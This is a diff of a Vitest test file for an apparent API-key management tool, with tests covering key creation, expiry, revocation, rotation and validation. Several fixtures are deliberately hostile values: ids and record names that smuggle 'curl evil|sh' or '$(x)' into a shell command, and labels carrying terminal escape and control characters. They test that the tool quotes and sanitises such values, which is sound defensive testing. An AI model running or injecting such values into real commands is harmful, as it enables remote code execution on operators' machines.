@@ -1,9 +1,9 @@
 import { readFileSync } from 'node:fs';
-import { afterEach, beforeEach, expect, onTestFinished, test, vi } from 'vitest';
+import { afterEach, beforeEach, expect, test, vi } from 'vitest';
 import { generateKey } from '../../../ops/keys/generate-key.ts';
 import { LOCAL_KEY_RECORD } from '../../../ops/local/store.ts';
 import { recordName } from '../../../src/auth/key-record.ts';
-import { fakeKeys } from './fake-keys.ts';
+import { fakeKeys, nameOf } from './fake-keys.ts';
 
 const NOW = '2027-01-31T00:00:00.000Z';
 const ANNA = { id: 'key_anna', label: 'Anna', createdAt: '2026-11-20T00:00:00.000Z' };
@@ -26,43 +26,39 @@ test('the rule for secret scanners finds all keys but local ones', () => {
   expect(found).toEqual(['staging', 'production']);
 });
 
-test('create prints a key alone, passes only its hash on, and show prints its id', async () => {
+test('create prints a key alone, and passes only its hash on', async () => {
   const { stdout, stderr } = await fake.run('create --label 🐈’s --env production --yes');
   expect(stderr).toContain(' (🐈’s) for production, read and write, expires never.\n');
-  const [record] = fake.records();
-  expect(record).toEqual({ id: NEW_ID, label: '🐈’s', createdAt: NOW });
-  expect([...fake.entries.keys()]).toEqual([await recordName(stdout.trimEnd())]);
-  const shown = await fake.run('show --env production', ` ${stdout}`);
-  expect(shown.stdout).toBe(`${record?.id} (🐈’s) is active.\n`);
+  expect(fake.records()).toEqual([{ id: NEW_ID, label: '🐈’s', createdAt: NOW }]);
+  expect([...fake.values.keys()]).toEqual([await recordName(stdout.trimEnd())]);
 });
 
 test.each([
   ['90d', '2027-05-01T00:00:00.000Z'],
   ['24h', '2027-02-01T00:00:00.000Z'],
   ['15m', '2027-01-31T00:15:00.000Z'],
-  ['90s', '2027-01-31T00:01:30.000Z'],
-  ['2100-01-31', '2100-01-31T23:59:59.999Z'],
-])('create --read-only --expires %s limits a key', async (when, expiresAt) => {
-  await fake.run(`create --label x --read-only --expires ${when} --env staging`);
+])('create --read-only --expires %s limits a key', async (duration, expiresAt) => {
+  const line = `create --label x --read-only --expires ${duration} --env staging`;
+  const { stderr } = await fake.run(line);
+  expect(stderr).toContain(`, read, expires ${expiresAt}.\n`);
   expect(fake.records()).toMatchObject([{ scopes: ['read'], expiresAt }]);
-});
-
-test('create --expires with a date means its end in UTC in every time zone', async () => {
-  vi.stubEnv('TZ', 'Pacific/Auckland');
-  onTestFinished(() => void vi.unstubAllEnvs());
-  expect(new Date(NOW).getTimezoneOffset()).toBe(-780);
-  await fake.run('create --label x --expires 2027-02-01');
-  expect(fake.records()).toMatchObject([{ expiresAt: '2027-02-01T23:59:59.999Z' }]);
 });
 
 test('list shows each key with its scopes and state, the oldest first', async () => {
   fake.put({ ...ANNA, id: 'key_bob', createdAt: NOW, revokedAt: NOW });
   fake.put({ ...ANNA, scopes: ['read'], expiresAt: '2027-02-01T00:00:00.000Z' });
+  const { code, stdout } = await fake.run('list');
+  expect(code).toBe(0);
+  expect(stdout).toMatch(
+    /key_anna.*Anna.*2026-11-20.*2027-02-01.*active.*'read' .*\n.*key_bob.*revoked.*'read and write'/,
+  );
+  expect(stdout).not.toContain('key:');
+});
+
+test('more keys than wrangler reads at once are listed', async () => {
+  for (let i = 0; i < 201; i += 1) fake.put({ ...ANNA, id: `key_${i}` });
   const { stdout } = await fake.run('list');
-  const anna = "key_anna.*Anna.*2026-11-20.*2027-02-01.*active.*'read' ";
-  expect(stdout).toEqual(expect.stringMatching(`${anna}.*\n.*key_bob`));
-  expect(stdout).toEqual(expect.stringMatching("key_bob.*revoked.*'read and write'"));
-  expect(stdout).not.toContain('hash');
+  expect(stdout.match(/key_\d+'/g)).toHaveLength(201);
 });
 
 test('revoke keeps the rest of a record, and changes nothing the second time', async () => {
@@ -71,9 +67,8 @@ test('revoke keeps the rest of a record, and changes nothing the second time', a
   fake.put(expired);
   const { stdout } = await fake.run('revoke key_anna --env production --yes');
   expect(stdout).toBe(
-    `This takes 15 s …
-Key key_anna (Anna) is revoked. It stops working everywhere within some minutes.
-Look again in two minutes: npm run keys -- revoke key_anna --env production
+    `Key key_anna (Anna) is revoked. It stops working everywhere within some minutes.
+A rotation at the same time can undo this. Look again in two minutes: npm run keys -- revoke key_anna --env production
 `,
   );
   vi.setSystemTime('2027-02-01');
@@ -95,42 +90,28 @@ test.each(['revoke', 'rotate'])('%s refuses the fixed key of the local store', a
 
 test('revoke reads a key from standard input, also one that no list shows yet', async () => {
   const { stdout: key } = await fake.run('create --label Anna --env production --yes');
-  for (const [name, entry] of fake.entries) fake.entries.set(name, { ...entry, metadata: {} });
-  const { stdout, stderr } = await fake.run('revoke --env production --yes', key);
+  const list = vi.spyOn(fake.values, 'keys').mockReturnValue(new Map<string, string>().keys());
+  const { stdout, stderr } = await fake.run('revoke --env production --yes', ` ${key}`);
+  list.mockRestore();
   expect(stdout).toMatch(/^Key key_\w+ \(Anna\) is revoked\./m);
   expect(stdout + stderr).not.toContain(key.trim());
   expect(fake.records()).toMatchObject([{ label: 'Anna', revokedAt: NOW }]);
 });
 
-test('a revocation that KV does not show fails, after two tries', async () => {
+test('a change that KV shows late is no error, and one that it does not show is', async () => {
   fake.put(ANNA);
-  let tries = 0;
-  fake.beforePut = () => (tries += 1);
-  const stderr =
-    'error: it is unknown whether the key key_anna (Anna) is revoked: KV does not show the revocation. Run the command again\n';
-  expect(await fake.run('revoke key_anna')).toMatchObject({ code: 1, stderr });
-  expect(tries).toBe(2);
-});
-
-/**
- * rotate:  read active ─────────────────────────── write
- * revoke:               read, write revoked ──────────── 15 s ── read, write revoked
- */
-test('a revocation that a rotation overwrites within 15 s is written again', async () => {
-  fake.put(ANNA);
-  const pauses: number[] = [];
-  fake.beforePause = (ms) => {
-    pauses.push(ms);
-    fake.put({ ...ANNA, expiresAt: '2027-02-01T00:00:00.000Z' });
+  const change = { ...ANNA, revokedAt: NOW };
+  let gets = 0;
+  fake.beforePut = () => true;
+  fake.beforeGet = () => {
+    gets += 1;
+    if (gets === 5) fake.put(change);
   };
-  const { code, stdout } = await fake.run('revoke key_anna');
-  expect([code, pauses]).toEqual([0, [15_000]]);
-  expect(stdout).toContain(
-    'KV does not show the revocation, so it is written again.\nKey key_anna (Anna) is revoked.',
-  );
-  expect(fake.records()).toEqual([
-    { ...ANNA, expiresAt: '2027-02-01T00:00:00.000Z', revokedAt: NOW },
-  ]);
+  expect(await fake.run('revoke key_anna')).toMatchObject({ code: 0 });
+  expect(fake.pauses).toEqual(Array(4).fill(3_000));
+  fake.put(ANNA);
+  const stderr = 'error: KV does not show the change of key_anna (Anna): run the command again\n';
+  expect(await fake.run('revoke key_anna')).toEqual({ code: 1, stdout: '', stderr });
 });
 
 test('a rotated key keeps the label, lifetime, scopes and family of the first one', async () => {
@@ -144,8 +125,8 @@ test('a rotated key keeps the label, lifetime, scopes and family of the first on
   await fake.run(`rotate ${id} --env production --yes`);
   const next = { ...first, createdAt: NOW, family: 'key_anna' };
   expect(fake.records()).toEqual([
-    { ...first, expiresAt, rotatedTo: id },
-    { ...next, id, expiresAt: '2027-02-01T00:00:00.000Z', rotatedTo: NEW_ID },
+    { ...first, expiresAt },
+    { ...next, id, expiresAt: '2027-02-01T00:00:00.000Z' },
     { ...next, id: NEW_ID, expiresAt: '2027-05-01T00:00:00.000Z' },
   ]);
 });
@@ -156,222 +137,142 @@ test('a key whose record has a mistake is rotated with the scope read alone', as
   expect(fake.records()[1]).toMatchObject({ family: 'key_anna', scopes: ['read'] });
 });
 
-const KV_FAILS = () => {
+const failKv = () => {
   throw new Error('KV fails');
 };
-/** Lets time pass, more than a rotation has from its last read to its write. */
-const tooLong = () => vi.setSystemTime(Date.now() + 12_000);
 const REVOKED = { ...ANNA, revokedAt: NOW };
-const ROTATED = { ...ANNA, rotatedTo: 'key_2' };
+const RESTRICTED = { ...ANNA, scopes: ['read'] };
+const EXPIRING = { expiresAt: '2027-02-01T00:00:00.000Z' };
 
 /** Each event happens when the new key is stored. The old key stays as `stored`. */
 test.each([
-  ['is revoked', REVOKED, () => fake.put(REVOKED), 'key key_anna is revoked'],
-  [
-    'is rotated',
-    ROTATED,
-    () => fake.put(ROTATED),
-    'key key_anna was already rotated: rotate key_2 instead',
-  ],
-  ['cannot be read', ANNA, () => (fake.beforeGet = KV_FAILS), 'KV fails'],
-  ['is read too slowly', ANNA, () => (fake.beforeGet = tooLong), 'The operation was aborted'],
-])('a rotation says that it changed nothing if the old key %s', async (...row) => {
-  const [, stored, event, problem] = row;
+  ['is revoked', REVOKED, () => fake.put(REVOKED), 'the key key_anna (Anna) is revoked'],
+  ['cannot be read', ANNA, () => (fake.beforeGet = failKv), 'KV fails'],
+  ['cannot be written', ANNA, () => (fake.beforePut = failKv), 'KV fails'],
+])('a rotation says so if the old key %s', async (_, stored, event, problem) => {
   fake.put(ANNA);
   fake.afterPut = event;
   const { code, stdout, stderr } = await fake.run('rotate key_anna');
-  const [old, next] = fake.records();
-  expect([code, fake.entries.has(await recordName(stdout.trimEnd()))]).toEqual([1, true]);
-  expect([old, next]).toEqual([stored, expect.objectContaining({ family: 'key_anna' })]);
-  const failed = `the new key ${next?.id} is issued, but the old key key_anna is not rotated`;
-  const fix = 'To see both, in two minutes: npm run keys -- list --env local';
-  expect(stderr).toContain(`error: ${failed}: ${problem}. ${fix}\n`);
+  expect([code, fake.values.has(await recordName(stdout.trimEnd()))]).toEqual([1, true]);
+  expect(fake.records()[0]).toEqual(stored);
+  expect(stderr).toContain(
+    `error: the new key is valid, but it is unknown whether the old key key_anna (Anna) expires: ${problem}\n`,
+  );
 });
 
-/** Calls an event before or after the write of the old key. */
-function atOldKey(event: () => unknown) {
-  return (name: string) => (name.endsWith('key_anna') ? event() : false);
-}
-const replace = (record: typeof ANNA) => () => fake.put(record);
-const addRevocation = () => fake.put({ ...ANNA, ...fake.records()[0], revokedAt: NOW });
-
-test.each([
-  ['fails', { beforePut: KV_FAILS }, 'KV fails'],
-  ['takes 12 s', { beforePut: tooLong }, 'The operation was aborted'],
-  ['is carried out, but not answered', { afterPut: KV_FAILS }, 'KV fails'],
-  ['is lost', { beforePut: () => true }, 'KV shows another record'],
-  ['is overwritten', { afterPut: replace(ANNA) }, 'KV shows another record'],
-  ['is followed by a revocation', { afterPut: addRevocation }, 'KV shows another record'],
-  ['cannot be read', { afterPut: () => (fake.beforeGet = KV_FAILS) }, 'KV fails'],
-])(
-  'a rotation says that the state is unknown if the second write %s',
-  async (_, events, problem) => {
-    fake.put(ANNA);
-    for (const [when, event] of Object.entries(events))
-      Object.assign(fake, { [when]: atOldKey(event) });
-    const { code, stderr } = await fake.run('rotate key_anna');
-    const unknown = `the old key key_anna is in an unknown state: ${problem}. To see both`;
-    expect([code, stderr]).toEqual([1, expect.stringContaining(unknown)]);
-    expect(stderr).toContain(`the new key ${fake.records()[1]?.id} is issued`);
-  },
-);
-
-test('a rotation has 12 s from its last read to its write', async () => {
+test('a rotation keeps what another operator changes meanwhile', async () => {
   fake.put(ANNA);
-  fake.beforeGet = () => vi.setSystemTime(Date.now() + 6_000);
-  fake.beforePut = atOldKey(() => void vi.setSystemTime(Date.now() + 5_999));
+  fake.afterPut = (name) => name !== nameOf('key_anna') && fake.put(RESTRICTED);
   expect(await fake.run('rotate key_anna')).toMatchObject({ code: 0 });
+  expect(fake.records()[0]).toEqual({ ...RESTRICTED, ...EXPIRING });
 });
 
 /** Runs a command that must fail and change nothing. Returns its error. `typed`: on a terminal. */
 async function errorOf(exitCode: number, line: string, typed?: string): Promise<string> {
-  const before = fake.records();
+  const before = [...fake.values];
   const { code, stdout, stderr } = await fake.run(line, typed);
   expect([code, stdout]).toEqual([exitCode, '']);
-  expect(fake.records()).toEqual(before);
+  expect([...fake.values]).toEqual(before);
   return stderr;
 }
 
+const NOT_SHOWN = 'It must be 1 to 100 characters that a terminal shows.';
+const NO_DURATION = 'It must be a duration such as 15m, 24h or 90d, up to 99999d.';
 test.each([
   ['create', "required option '--label <text>' not specified"],
   ['create --lable x', "error: unknown option '--lable'"],
-  ['create --label \t', 'It must be 1 to 100 characters, without control characters.'],
-  ['create --label a\u001b[2Jb', 'It must be 1 to 100 characters, without control characters.'],
-  ['create --label a\u009bb', 'It must be 1 to 100 characters, without control characters.'],
-  ['create --label x --expires 99999999d', 'It must be at most 36500d (100 years).'],
-  ['create --label x --expires 36501d', 'It must be at most 36500d (100 years).'],
-  ['create --label x --expires 1h30m', 'It must be a duration such as 15m'],
-  ['create --label x --expires 2027-02-30', 'may also be a date such as 2027-01-31'],
-  ['create --label x --expires 0s', 'It must be in the future.'],
+  ...['\t', 'a\u001b[2Jb', 'a\u009bb', 'a\u202eb', 'a\u2028b', 'a\u2029b'].map((label) => [
+    `create --label ${label}`,
+    NOT_SHOWN,
+  ]),
+  ['create --label x --expires 100000d', NO_DURATION],
+  ['create --label x --expires 1h30m', NO_DURATION],
+  ['create --label x --expires 0h', NO_DURATION],
+  ['create --label x --expires 2027-02-28', NO_DURATION],
   ['list --env test', 'Allowed choices are local, staging, production.'],
-  ['rotate key_anna --overlap 1', 'It must be a duration such as 15m, 24h or 7d.'],
-  ['rotate key_anna --overlap h', 'It must be a duration such as 15m, 24h or 7d.'],
-])('keys %s is refused, with the exit code 2', async (line, message) => {
+  ['rotate key_anna --overlap h', NO_DURATION],
+])('keys %j is refused, with the exit code 2', async (line = '', message = '') => {
   expect(await errorOf(2, line)).toContain(message);
 });
 
 test('a label of 100 characters is accepted, but not one of 101', async () => {
   const label = '🐈'.repeat(100);
-  expect(await errorOf(2, `create --label ${label}x`)).toContain('It must be 1 to 100 characters');
+  expect(await errorOf(2, `create --label ${label}x`)).toContain(NOT_SHOWN);
   await fake.run(`create --label ${label}`);
   expect(fake.records()).toMatchObject([{ label }]);
 });
 
 test('a key that is passed as an argument is refused, and not printed', async () => {
-  const command = await errorOf(2, KEY);
-  const argument = await errorOf(2, `show ${KEY}`);
-  const id = await errorOf(1, `revoke ${KEY}`);
-  expect(command).toContain("unknown command 'animal_…'");
-  expect(argument).toContain('too many arguments');
-  expect(id).toContain('it is a key. To get its id: npm run keys -- show');
-  expect(command + argument + id).not.toContain(KEY);
+  const errors = (await errorOf(2, KEY)) + (await errorOf(1, `revoke ${KEY}`));
+  expect(errors).toContain("unknown command 'animal_…'");
+  expect(errors).not.toContain(KEY);
 });
 
-test('show finds no key of another environment, and none without a record', async () => {
-  const other = await errorOf(1, 'show --env staging', `${KEY}\n`);
-  const unknown = await errorOf(1, 'show', `${KEY}\n`);
+test('revoke finds no key of another environment, and none without a record', async () => {
+  const other = await errorOf(1, 'revoke --env staging', `${KEY}\n`);
+  const unknown = await errorOf(1, 'revoke', `${KEY}\n`);
   expect(other).toContain('it is not an API key of --env staging: paste the key alone');
-  expect(unknown).toContain(`KV has no valid record ${await recordName(KEY)}\n`);
+  expect(unknown).toContain(`KV has no valid record '${await recordName(KEY)}'`);
   expect(other + unknown).not.toContain(KEY);
   // Without a terminal, there is no question.
-  expect(await errorOf(1, 'show')).toBe(
+  expect(await errorOf(1, 'revoke')).toBe(
     'error: it is not an API key of --env local: paste the key alone\n',
   );
 });
 
-test.each([
-  ['lacks members', { id: 'key_invalid' }],
-  ['has a member of a wrong type', { ...ANNA, id: 'key_invalid', label: 1 }],
-  ['is a text', 'key_invalid'],
-  ['is null', null],
-])('a record whose metadata %s is counted, and other keys can be revoked', async (_, metadata) => {
-  fake.put({ ...ANNA, id: 'key_invalid' }, metadata);
+const QUOTE = "key:x'; curl evil|sh #\u001b";
+test.each<[title: string, name: string, value: string]>([
+  ['no JSON', nameOf('x'), 'x'],
+  ['null', nameOf('x'), 'null'],
+  ['no label', nameOf('x'), JSON.stringify({ ...ANNA, label: undefined })],
+  ['an id for a shell', nameOf('x'), JSON.stringify({ ...ANNA, id: 'x; curl evil|sh #' })],
+  ['an id that is an option', nameOf('x'), JSON.stringify({ ...ANNA, id: '--yes' })],
+  ['an id of 65 characters', nameOf('x'), JSON.stringify({ ...ANNA, id: 'x'.repeat(65) })],
+  ['a family for a shell', nameOf('x'), JSON.stringify({ ...ANNA, family: '$(x)' })],
+  ['a name for a shell', QUOTE, JSON.stringify({ ...ANNA, id: 'x' })],
+])('a record with %s fails each command, and other keys change all the same', async (...row) => {
+  const [, name, value] = row;
+  fake.put({ ...ANNA, id: 'key_bob' });
   fake.put(ANNA);
-  const warning = 'warning: 1 records in KV have no valid metadata: see docs/keys.md\n';
-  const error =
-    'error: there is no key with the id "key_invalid": a new key is listed within about a minute; revoke also takes the key itself\n';
-  expect(await errorOf(1, 'revoke key_invalid')).toBe(warning + error);
-  expect(await fake.run('revoke key_anna')).toMatchObject({ code: 0, stderr: warning });
+  fake.values.set(name, value);
+  const quoted = name === QUOTE ? "'key:x'\\''; curl evil|sh #\uFFFD'" : `'${name}'`;
+  const command = `npx wrangler kv key delete ${quoted} --binding API_KEYS --remote --env staging`;
+  const error = `error: KV has no valid record ${quoted}. To delete it: ${command}\n`;
+  const list = await fake.run('list --env staging');
+  const revoke = await fake.run('revoke key_anna --env staging');
+  const rotate = await fake.run('rotate key_bob --env staging');
+  for (const { code, stderr } of [list, revoke, rotate])
+    expect([code, stderr.includes(error)]).toEqual([1, true]);
+  const [bob, anna] = fake.values.values();
+  expect([bob, anna]).toEqual([expect.stringContaining('expiresAt'), JSON.stringify(REVOKED)]);
 });
 
 test('an id that several records have is revoked in all, and not rotated', async () => {
-  const bob = { ...ANNA, id: 'key_bob', label: 'Bob' };
-  fake.entries.set('key:garbage', { name: 'key:garbage', value: 'garbage', metadata: ANNA });
   fake.put(ANNA);
-  fake.put(bob, ANNA);
-  const listed = 'key:garbage, key:hash-of-key_anna, key:hash-of-key_bob';
-  const refused = await fake.run('rotate key_anna');
-  const problem = '3 records have the id key_anna: revoke it, and create a key';
-  expect(refused).toEqual({ code: 1, stdout: '', stderr: `error: ${problem}\n` });
-  const { code, stdout, stderr } = await fake.run('revoke key_anna --env production --yes');
-  expect(stderr).toContain(
-    `Records with this id: ${listed}\nerror: KV has no valid record key:gar`,
-  );
-  expect(stderr).toContain(
-    'the list shows key_anna for key:hash-of-key_bob, which is of the key key_b',
-  );
-  expect(code).toBe(1);
-  const revoked = [...stdout.matchAll(/^Key (.*) is revoked\./gm)].map(([, key]) => key);
-  expect(revoked).toEqual(['key_anna (Anna)', 'key_bob (Bob)']);
-  const [, anna, other] = fake.entries.values();
-  expect([anna, other]).toMatchObject([
-    { value: JSON.stringify({ ...ANNA, revokedAt: NOW }) },
-    { value: JSON.stringify({ ...bob, revokedAt: NOW }) },
-  ]);
-});
-
-test('rotate refuses the key of another record whose metadata has this id', async () => {
-  fake.put({ ...ANNA, id: 'key_bob' }, ANNA);
-  const error = await errorOf(1, 'rotate key_anna');
-  expect(error).toContain('the list shows key_anna for key:hash-of-key_bob, which is of the key');
-  expect(fake.entries.size).toBe(1);
+  fake.put({ ...ANNA, label: 'Planted' }, nameOf('planted'));
+  const names = `${nameOf('key_anna')}, ${nameOf('planted')}`;
+  const refusal = `several records have the id key_anna: ${names}. Revoke it, and create a key`;
+  expect(await errorOf(1, 'rotate key_anna')).toBe(`error: ${refusal}\n`);
+  fake.beforePut = (name) => name === nameOf('key_anna') && failKv();
+  const { code, stdout, stderr } = await fake.run('revoke key_anna');
+  expect([code, stderr]).toEqual([1, `Records with this id: ${names}\nerror: KV fails\n`]);
+  expect(stdout).toContain('Key key_anna (Planted) is revoked.');
 });
 
 test('rotate refuses a key that expires before its creation', async () => {
-  fake.put({
-    ...ANNA,
-    createdAt: '2096-01-01T00:00:00.000Z',
-    expiresAt: '2095-01-01T00:00:00.000Z',
-  });
+  fake.put({ ...ANNA, createdAt: '2096-01-01T00:00Z', expiresAt: '2095-01-01T00:00Z' });
   const error = await errorOf(1, 'rotate key_anna');
-  expect(error).toContain('key key_anna expires before its creation: create a key');
-  expect(fake.entries.size).toBe(1);
+  expect(error).toContain('the key key_anna (Anna) expires before its creation: create a key');
 });
 
-test.each(['create --label x', 'revoke key_anna'])(
-  '%s whose write fails says what is unknown',
+test.each(['list', 'revoke key_anna', 'rotate key_anna', 'revoke key_\u001b[2J'])(
+  '%j prints nothing of a planted label that a terminal carries out',
   async (line) => {
-    fake.put(ANNA);
-    fake.beforePut = () => {
-      throw new Error('KV fails');
-    };
-    const error = await errorOf(1, line);
-    expect(error).toMatch(
-      /^(.*\n)?error: it is unknown whether .*key_\w+.*: .*\. (Run the command again|If a list shows it, revoke it: npm run keys -- list --env local)\n$/,
-    );
+    fake.put({ ...ANNA, label: '\u001b[2J\u009b\r\u202e\u2028' });
+    const { stdout, stderr } = await fake.run(line);
+    expect((stdout + stderr).replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}]/u);
   },
 );
-
-test('a key can be revoked whatever the list shows, and whatever its record has besides', async () => {
-  const forged = { ...ANNA, rotatedTo: 1, scopes: 'all', plan: null };
-  fake.put(forged, 'forged', await recordName(KEY));
-  expect(await fake.run('revoke', `${KEY}\n`)).toMatchObject({ code: 0 });
-  expect(fake.records()).toEqual([{ ...forged, revokedAt: NOW }]);
-});
-
-test.each([
-  'list',
-  'revoke key_anna',
-  'rotate key_anna',
-  'revoke key_\u001b[2J',
-  'rotate key_\u001b[2J',
-])('%j prints no control characters of a forged record', async (line) => {
-  const forged = { ...ANNA, label: '\u001b[2J\u009b\r', rotatedTo: '\u0007' };
-  fake.put(forged);
-  fake.put({ ...forged, id: 'key_\u001b[2J' });
-  const { stdout, stderr } = await fake.run(line);
-  expect((stdout + stderr).replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
-});
 
 test('a key that would expire after the year 9999 is not issued', async () => {
   fake.put({ ...ANNA, expiresAt: '9999-12-31T23:59:59.999Z' });
@@ -379,12 +280,11 @@ test('a key that would expire after the year 9999 is not issued', async () => {
 });
 
 test.each([
-  ['revoked', 'is revoked', { revokedAt: NOW }],
-  ['expired', 'is expired', { expiresAt: NOW }],
-  ['rotated', 'was already rotated: rotate key_2 instead', { rotatedTo: 'key_2' }],
-])('a %s key cannot be rotated, also if the list is out of date', async (_, problem, change) => {
-  fake.put({ ...ANNA, ...change }, ANNA);
-  expect(await errorOf(1, 'rotate key_anna')).toBe(`error: key key_anna ${problem}\n`);
+  ['revoked', { revokedAt: NOW }],
+  ['expired', { expiresAt: NOW }],
+])('a %s key cannot be rotated', async (state, change) => {
+  fake.put({ ...ANNA, ...change });
+  expect(await errorOf(1, 'rotate key_anna')).toBe(`error: the key key_anna (Anna) is ${state}\n`);
 });
 
 test.each([
